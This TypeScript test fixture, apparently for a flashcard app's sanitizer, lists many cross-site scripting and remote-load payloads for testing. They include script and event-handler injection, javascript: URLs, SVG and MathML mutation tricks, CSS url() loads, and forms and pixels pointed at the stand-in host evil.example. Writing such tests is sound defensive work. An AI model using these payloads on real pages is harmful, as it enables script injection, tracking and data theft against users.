/** What an attack does where it runs: the journey looks for it afterwards. */
const hit = "window.__hit='ran';parent.__hit='ran';alert(1)";
const away = 'https://evil.example';

/** A page that would run the attack, as the address of a frame. */
const page = `data:text/html,<script>${hit}</script>`;

/** Attempts to run something, or to ask another origin for something, each as HTML of a field. */
export const attacks: readonly string[] = [
  // Scripts, plain and in disguise.
  `<script>${hit}</script>`,
  `<script src="${away}/a.js"></script>`,
  `<SCRIPT type="module">import "${away}/a.js"</SCRIPT>`,
  `<scr<script>ipt>${hit}</scr</script>ipt>`,
  `<script/x>${hit}</script/x>`,
  `<noscript><p title="</noscript><img src=x onerror=${hit}>"></noscript>`,
  // Handlers.
  `<img src=x onerror="${hit}">`,
  `<img src=x:x onerror\t=\n"${hit}">`,
  `<img/src="x"/onerror="${hit}">`,
  `<body onload="${hit}">`,
  `<p onclick="${hit}" onmouseover="${hit}" onpointerenter="${hit}">hover</p>`,
  `<input autofocus onfocus="${hit}">`,
  `<details open ontoggle="${hit}">open</details>`,
  `<video><source onerror="${hit}"></video>`,
  `<audio src=x onerror="${hit}"></audio>`,
  `<marquee onstart="${hit}">moves</marquee>`,
  `<style>@keyframes x{}</style><b style="animation:x 1s" onanimationstart="${hit}">b</b>`,
  `<div tabindex=1 onfocus="${hit}" autofocus>focus</div>`,
  // Addresses that run.
  `<a href="javascript:${hit}">link</a>`,
  `<a href=" java\tscript:${hit}">link</a>`,
  `<a href="&#106;avascript&colon;${hit}">link</a>`,
  `<a href="data:text/html,<script>${hit}</script>">link</a>`,
  `<a href="vbscript:msgbox(1)" ping="${away}/ping">link</a>`,
  `<svg><a xlink:href="javascript:${hit}"><text y="20">link</text></a></svg>`,
  `<math href="javascript:${hit}"><mi>x</mi></math>`,
  `<form action="javascript:${hit}"><button>send</button></form>`,
  `<form id=f action="${away}/send"><input name=a></form><button form=f formaction="${away}/x">go</button>`,
  `<isindex action="javascript:${hit}" type=image>`,
  // Frames and plugins.
  `<iframe src="${page}"></iframe>`,
  `<iframe srcdoc="<script>${hit}</script>"></iframe>`,
  `<iframe src="${away}/"></iframe>`,
  `<object data="${page}"></object>`,
  `<object data="${away}/x.swf"><param name=movie value="${away}/x.swf"></object>`,
  `<embed src="${page}"><applet code="${away}/x"></applet>`,
  `<frameset><frame src="${page}"></frameset>`,
  `<portal src="${away}/"></portal>`,
  // SVG and MathML.
  `<svg onload="${hit}"><script>${hit}</script></svg>`,
  `<svg><image href="${away}/pixel.png"/><use href="${away}/a.svg#x"/></svg>`,
  `<svg><animate attributeName=href values="javascript:${hit}" /><a id=x><text>a</text></a></svg>`,
  `<svg><set attributeName="onmouseover" to="${hit}"/></svg>`,
  `<svg><foreignObject><iframe src="${page}"></iframe><img src=x onerror="${hit}"></foreignObject></svg>`,
  `<svg><style>*{background:url(${away}/svg.css)}</style><feImage href="${away}/f.png"/></svg>`,
  `<svg fill="url(${away}/fill.svg#a)" filter="url(${away}/filter.svg#a)"><rect mask="url(${away}/mask.svg#a)" width="9" height="9"/></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${hit}&gt;"></mglyph></table></mtext></math>`,
  `<svg></p><style><a id="</style><img src=x onerror='${hit}'>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror='${hit}'>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror="${hit}"></annotation-xml></math>`,
  // Styles that load.
  `<style>@import "${away}/a.css"; @import url(${away}/b.css);</style>`,
  `<style>p{background:url("${away}/c.png")} @font-face{font-family:e;src:url(${away}/e.woff)} b{font-family:e}</style><p>p <b>b</b>`,
  `<style>p{background:\\75\\72\\6c(${away}/d.png)}</style><p>escaped</p>`,
  `<style>p{background:u/**/rl(${away}/e.png);list-style:image-set("${away}/s.png" 1x)}</style><p>set</p>`,
  `<div style="background:url(${away}/f.png);border-image:url('//evil.example/g.png') 1">styled</div>`,
  `<div style="--x:url(${away}/h.png);background:var(--x);content:url(${away}/i.png)">variable</div>`,
  `<style>:host,:root,html{position:fixed;inset:0;z-index:9999;background:red url(${away}/j.png)}</style>covered`,
  `<div style="position:fixed;inset:0;z-index:2147483647;cursor:url(${away}/k.cur),auto">overlay</div>`,
  // What loads by itself.
  `<img src="${away}/pixel.png">`,
  `<img src="//evil.example/schemeless.png" srcset="${away}/2x.png 2x" lowsrc="${away}/low.png">`,
  `<img src="\\\\evil.example\\share.png"><img src="/\\evil.example/x.png">`,
  `<picture><source srcset="${away}/p.webp"><img src="a.png"></picture>`,
  `<video poster="${away}/poster.png" src="${away}/v.mp4" autoplay><track src="${away}/t.vtt" default></video>`,
  `<audio src="${away}/a.mp3" autoplay></audio>[sound:${away}/b.mp3]`,
  `<table background="${away}/t.png"><tr><td background="${away}/d.png">cell</table>`,
  `<link rel=stylesheet href="${away}/l.css"><link rel=prefetch href="${away}/p"><link rel="dns-prefetch preconnect" href="${away}">`,
  `<meta http-equiv=refresh content="0;url=${away}/"><meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<base href="${away}/"><img src="relative.png"><a href="relative">link</a>`,
  `<input type=image src="${away}/input.png"><body background="${away}/body.png">`,
  `<template><img src=x onerror="${hit}"></template><template shadowrootmode=open><script>${hit}</script></template>`,
  `<xmp><img src=x onerror="${hit}"></xmp><plaintext><img src=x onerror="${hit}">`,
  // Elements of ours that a deck writes itself.
  `<span class="cairn-tex" data-tex="\\href{javascript:${hit}}{x}\\includegraphics{${away}/tex.png}" data-shape="inline">x</span>`,
  `<span class="cairn-tex" data-tex="\\htmlData{x=y}{\\url{javascript:${hit}}}">x</span>\\(\\href{javascript:${hit}}{y}\\)`,
  `<span class="cairn-sound" data-name="${away}/c.mp3"></span><img data-media="${away}/m.png">`,
  `<span class="cairn-type" data-side="back" data-expected="<img src=x onerror=${hit}>"></span>`,
  `<div class="cairn-occlusion" data-shape="polygon" data-points="url(${away}/p)"></div><img src="evil.svg">`,
  `<span class="cairn-speech" data-text="<img src=x onerror=${hit}>" data-lang="&quot;><script>"></span>`,
  // Names that mean something to the page around.
  `<img name=getElementById><form name=body id=documentElement><input name=attributes></form><a id=root></a>`,
  `<img src="page.html"><img src="evil.svg"><iframe src="page.html"></iframe>`,
  `{{Front}}{{FrontSide}}{{#Front}}<img src=x onerror="${hit}">{{/Front}}{{c1::<script>${hit}</script>}}`,
];

/** For names of decks, tags, files and titles: text everywhere, HTML nowhere. */
export const hostileName = `"><img src=x onerror="${hit}"><script>${hit}</script>`;

/** Pictures and pages that come with a deck; scripts of an SVG never run in an image. */
export const hostileFiles: Readonly<Record<string, string>> = {
  'evil.svg': `<svg xmlns="http://www.w3.org/2000/svg" onload="${hit}" width="9" height="9"><script>${hit}</script><image href="${away}/inside.png" width="9" height="9"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${away}/"/></foreignObject></svg>`,
  'page.html': `<script>${hit}</script>`,
  '"><img src=x onerror=alert(1)>.png': 'none',
};

/** Templates of note types, which put a field where it could run. */
export const hostileTemplates: readonly (readonly [front: string, back: string])[] = [
  [`{{Front}}<script>${hit}</script>`, '{{FrontSide}}<hr>{{Back}}'],
  [
    `<img src="{{Front}}"><div onclick="{{Front}}" style="background:{{Back}}">{{text:Front}}</div><a href="{{Back}}">x</a>`,
    `<script>{{Back}}</script><style>{{Back}}</style><iframe srcdoc='{{Front}}'></iframe>{{Tags}}{{Deck}}{{Type}}`,
  ],
  [
    `{{tts en_US voices=${away} speed=9:Front}}{{hint:Front}}{{type:Front}}`,
    `{{furigana:Front}}{{type:Back}}<object data="${away}"></object>{{Back}}`,
  ],
];

/** A style sheet of a note type. */
export const hostileCss = `@import url("${away}/type.css"); .card{background:url(${away}/card.png)}
@font-face{font-family:f;src:url(${away}/f.woff2)} .card{font-family:f} body{display:none}
</style><script>${hit}</script><style>`;
